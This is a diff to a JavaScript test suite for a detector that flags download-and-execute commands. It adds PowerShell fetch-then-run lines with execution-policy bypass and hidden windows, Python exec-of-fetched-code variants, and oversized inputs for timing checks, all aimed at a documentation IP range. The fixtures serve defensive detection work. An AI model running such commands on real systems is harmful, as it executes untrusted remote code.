@@ -89,6 +89,7 @@ describe('untrusted-remote-script', () => {
     const saveRun = ['untrusted-remote-script/download-save-run'];
     expect(run('Invoke-WebRequest http://192.0.2.9/agent.exe -OutFile agent.exe; .\\agent.exe')).toEqual(saveRun);
     expect(run('Invoke-WebRequest -Uri http://192.0.2.9/a.ps1 -OutFile a.ps1\npowershell -ExecutionPolicy Bypass -File a.ps1')).toEqual(saveRun);
+    expect(run('Invoke-WebRequest http://192.0.2.9/a.ps1 -OutFile a.ps1\npowershell -NoLogo -NoProfile -NonInteractive -ExecutionPolicy Bypass -WindowStyle Hidden -File .\\a.ps1')).toEqual(saveRun);
     expect(run("(New-Object Net.WebClient).DownloadFile('http://192.0.2.9/a.exe', 'a.exe'); Start-Process a.exe")).toEqual(saveRun);
     expect(run('certutil -urlcache -split -f http://192.0.2.9/a.exe a.exe && a.exe')).toEqual(saveRun);
     expect(run('certutil -urlcache -f http://192.0.2.9/a.exe a.exe\na.exe /quiet')).toEqual(saveRun);
@@ -109,6 +110,9 @@ describe('untrusted-remote-script', () => {
     expect(run("exec(urlopen('http://192.0.2.9/p.py').read())")).toEqual(downloadRun);
     expect(run('python3 -c "import urllib.request as u; exec(u.urlopen(\'http://192.0.2.9/p.py\').read())"')).toEqual(downloadRun);
     expect(run("exec(requests.get('https://bit.ly/x').text)")).toEqual(downloadRun);
+    expect(run('exec(requests.get(f"http://192.0.2.9/{n}").text)')).toEqual(downloadRun);
+    expect(run('exec(requests.get(url="http://192.0.2.9/x").text)')).toEqual(downloadRun);
+    expect(run('exec(urlopen(Request("http://192.0.2.9/x")).read())')).toEqual(downloadRun);
     expect(run("eval(await (await fetch('http://192.0.2.9/a.js')).text())")).toEqual(downloadRun);
     // A named https host stays undeclared-risk's; data fetched and code run apart are not this.
     expect(run("exec(requests.get('https://raw.githubusercontent.com/a/b/main/x.py').text)")).toEqual([]);
@@ -139,6 +143,9 @@ describe('untrusted-remote-script', () => {
       'curl -o a.exe http://192.0.2.7/a.exe\n' + ';C:\\x\\y'.repeat(50_000),
       'curl -o a http://192.0.2.7/a\n' + ';x/y'.repeat(50_000),
       'curl -o a.exe http://192.0.2.7/a.exe\n' + '& a'.repeat(100_000),
+      'curl -o a.exe http://192.0.2.7/a.exe\n' + 'exec('.repeat(100_000),
+      'curl -o a.exe http://192.0.2.7/a.exe\n' + '('.repeat(200_000),
+      'curl -o x.sh http://192.0.2.7/x.sh\n' + '-sh '.repeat(100_000),
     ];
     for (const text of lines) {
       const t0 = performance.now();
